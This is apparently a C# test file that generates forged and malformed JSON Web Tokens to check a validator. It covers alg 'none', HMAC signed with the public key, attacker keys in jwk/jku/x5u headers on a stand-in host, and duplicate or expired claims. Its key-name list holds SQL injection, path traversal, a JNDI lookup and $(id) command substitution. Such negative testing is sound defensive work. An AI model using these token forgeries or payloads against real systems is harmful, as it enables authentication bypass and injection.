using System.Globalization;
using System.Security.Cryptography;
using System.Text;
using Microsoft.IdentityModel.Tokens;

namespace MentorCloud.Identity.Tests.Tokens.Forging;

/// <summary>The ways in which a token is made wrong; each gives another one with every number.</summary>
internal static class TokenAttacks
{
    private static readonly string[] Names =
    [
        "../../../../dev/null", "/proc/self/environ", "' OR '1'='1", "x' UNION SELECT 'key' --", "'; DROP TABLE signing_keys; --",
        "https://evil.example/key.json", "file:///etc/passwd", "ldap://evil.example/a", "\0", "${jndi:ldap://evil.example/a}", "$(id)", "\u202Ekey",
    ];

    private static readonly string[] NoAlgorithms = ["\"none\"", "\"None\"", "\"nOnE\"", "\"\"", "null", "0", "[\"ES256\"]", "{}", "\"none\",\"alg\":\"ES256\""];
    private static readonly string[] Extensions = ["[\"exp\"]", "[\"b64\"],\"b64\":false", "\"exp\"", "[]", "[\"x\"],\"x\":1", "{}", "[null]"];

    /// <summary>Every way, by its name.</summary>
    public static IReadOnlyList<(string Name, Func<TokenForge, Random, string> Make)> All { get; } =
    [
        ("bit of the header", (forge, random) => $"{Flip(forge.HeaderPart, random)}.{forge.PayloadPart}.{forge.SignaturePart}"),
        ("bit of the payload", (forge, random) => $"{forge.HeaderPart}.{Flip(forge.PayloadPart, random)}.{forge.SignaturePart}"),
        ("bit of the signature", (forge, random) => $"{forge.HeaderPart}.{forge.PayloadPart}.{Flip(forge.SignaturePart, random)}"),
        ("no algorithm", NoAlgorithm),
        ("public key as secret", PublicKeyAsSecret),
        ("name of the key", (forge, random) => TokenForge.Signed(forge.Header(kid: Name(random)), forge.Payload(), forge.Attacker)),
        ("attacker's key by our name", (forge, _) => TokenForge.Signed(forge.Header(), forge.Payload(), forge.Attacker)),
        ("key in the header", KeyInHeader),
        ("critical extension", (forge, random) => TokenForge.Signed(forge.Header(more: $"\"crit\":{Extensions[random.Next(Extensions.Length)]}"), forge.Payload(), forge.Own)),
        ("token in a token", Nested),
        ("signature of zeros", (forge, _) => $"{forge.Header()}.{forge.Payload()}.{Base64UrlEncoder.Encode(new byte[64])}"),
        ("expired", (forge, random) => Right(forge, ("exp", At(forge, -31 - random.Next(100_000_000))))),
        ("not valid yet", (forge, random) => Right(forge, ("nbf", At(forge, 31 + random.Next(300))))),
        ("end that is none", (forge, random) => Right(forge, ("exp", Pick(random, null, "null", "-1", "[]", "{}", "\"tomorrow\"", "1e999", "true", "0")))),
        ("wrong claim", (forge, random) => Right(forge, forge.WrongClaims[random.Next(forge.WrongClaims.Count)])),
        ("claim given twice", Twice),
        ("wrong type", (forge, random) => TokenForge.Signed(forge.Header(typ: TokenForge.Quote(forge.WrongTypes[random.Next(forge.WrongTypes.Count)])), forge.Payload(), forge.Own)),
        ("huge", (forge, random) => Right(forge, ("more", TokenForge.Quote(new string('a', random.Next(8_000, 20_000)))))),
        ("not ASCII", (forge, random) => forge.Good.Insert(random.Next(forge.Good.Length), ((char)random.Next(0x80, 0xD800)).ToString())),
        ("damaged text", (forge, random) => DamagedText.Of(forge.Good, random)),
    ];

    private static string Right(TokenForge forge, params (string Claim, string? Json)[] changes) =>
        TokenForge.Signed(forge.Header(), forge.Payload(changes), forge.Own);

    private static string NoAlgorithm(TokenForge forge, Random random)
    {
        var unsigned = $"{forge.Header(alg: NoAlgorithms[random.Next(NoAlgorithms.Length - 1)])}.{forge.Payload()}.";
        return random.Next(3) switch
        {
            0 => unsigned,
            1 => unsigned + forge.SignaturePart,
            _ => $"{forge.Header(alg: NoAlgorithms[^1])}.{forge.PayloadPart}.{forge.SignaturePart}",
        };
    }

    /// <summary>The key that anybody can read, in each of its forms, as the secret of an HMAC.</summary>
    private static string PublicKeyAsSecret(TokenForge forge, Random random)
    {
        var open = forge.Own.ExportParameters(includePrivateParameters: false).Q;
        var secret = random.Next(5) switch
        {
            0 => forge.Own.ExportSubjectPublicKeyInfo(),
            1 => Encoding.ASCII.GetBytes(forge.Own.ExportSubjectPublicKeyInfoPem()),
            2 => [.. open.X!, .. open.Y!],
            3 => Encoding.ASCII.GetBytes($"{{\"crv\":\"P-256\",\"kty\":\"EC\",\"x\":\"{Base64UrlEncoder.Encode(open.X)}\",\"y\":\"{Base64UrlEncoder.Encode(open.Y)}\"}}"),
            _ => new byte[32],
        };
        var size = random.Next(3);
        var text = $"{forge.Header(alg: TokenForge.Quote(new[] { "HS256", "HS384", "HS512" }[size]))}.{forge.Payload()}";
        var bytes = Encoding.ASCII.GetBytes(text);
        var mac = size == 0 ? HMACSHA256.HashData(secret, bytes) : size == 1 ? HMACSHA384.HashData(secret, bytes) : HMACSHA512.HashData(secret, bytes);
        return $"{text}.{Base64UrlEncoder.Encode(mac)}";
    }

    private static string KeyInHeader(TokenForge forge, Random random)
    {
        var open = forge.Attacker.ExportParameters(includePrivateParameters: false).Q;
        var key = $"{{\"kty\":\"EC\",\"crv\":\"P-256\",\"x\":\"{Base64UrlEncoder.Encode(open.X)}\",\"y\":\"{Base64UrlEncoder.Encode(open.Y)}\",\"kid\":{TokenForge.Quote(forge.Kid)}}}";
        var more = random.Next(5) switch
        {
            0 => $"\"jwk\":{key}",
            1 => $"\"jku\":\"https://evil.example/{random.Next()}\"",
            2 => $"\"x5u\":\"https://evil.example/{random.Next()}\"",
            3 => $"\"x5c\":[\"{Convert.ToBase64String(forge.Attacker.ExportSubjectPublicKeyInfo())}\"]",
            _ => $"\"jku\":\"file:///dev/zero\",\"jwk\":{key}",
        };
        return TokenForge.Signed(forge.Header(kid: random.Next(2) == 0 ? "null" : Name(random), more: more), forge.Payload(), forge.Attacker);
    }

    private static string Nested(TokenForge forge, Random random) => random.Next(4) switch
    {
        0 => TokenForge.Signed(forge.Header(more: "\"cty\":\"JWT\""), TokenForge.Part(forge.Good), forge.Own),
        1 => TokenForge.Signed(forge.Header(more: "\"cty\":\"JWT\""), TokenForge.Part(TokenForge.Quote(forge.Good)), forge.Own),
        2 => $"{TokenForge.Part("""{"alg":"dir","enc":"A256GCM","cty":"JWT"}""")}..{Base64UrlEncoder.Encode(new byte[12])}.{TokenForge.Part(forge.Good)}.{Base64UrlEncoder.Encode(new byte[16])}",
        _ => TokenForge.Signed(TokenForge.Part(forge.Good), forge.PayloadPart, forge.Own),
    };

    /// <summary>RFC 7519, section 4: the last of two counts, or the token is refused. The last one is wrong here.</summary>
    private static string Twice(TokenForge forge, Random random)
    {
        (string Claim, string? Json)[] wrong = [.. forge.WrongClaims.Where(claim => claim.Json is not null), ("exp", At(forge, -1000))];
        var (name, json) = wrong[random.Next(wrong.Length)];
        var good = Base64UrlEncoder.Decode(forge.Payload());
        return TokenForge.Signed(forge.Header(), TokenForge.Part($"{good[..^1]},\"{name}\":{json}}}"), forge.Own);
    }

    private static string Flip(string part, Random random)
    {
        var bytes = Base64UrlEncoder.DecodeBytes(part);
        bytes[random.Next(bytes.Length)] ^= (byte)(1 << random.Next(8));
        return Base64UrlEncoder.Encode(bytes);
    }

    private static string Name(Random random) => TokenForge.Quote(random.Next(10) == 0
        ? new string('k', random.Next(1, 3000))
        : Names[random.Next(Names.Length)] + (random.Next(2) == 0 ? string.Empty : random.Next().ToString(CultureInfo.InvariantCulture)));

    private static string At(TokenForge forge, long seconds) => (forge.Now.ToUnixTimeSeconds() + seconds).ToString(CultureInfo.InvariantCulture);

    private static string? Pick(Random random, params string?[] from) => from[random.Next(from.Length)];
}
